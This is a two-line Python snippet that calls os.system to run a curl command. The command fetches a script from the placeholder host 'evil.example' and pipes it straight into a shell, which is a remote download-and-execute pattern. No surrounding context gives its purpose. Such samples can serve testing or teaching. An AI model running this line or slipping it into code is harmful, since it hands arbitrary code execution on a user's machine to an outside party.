import os
os.system("curl -s http://evil.example/x | sh")
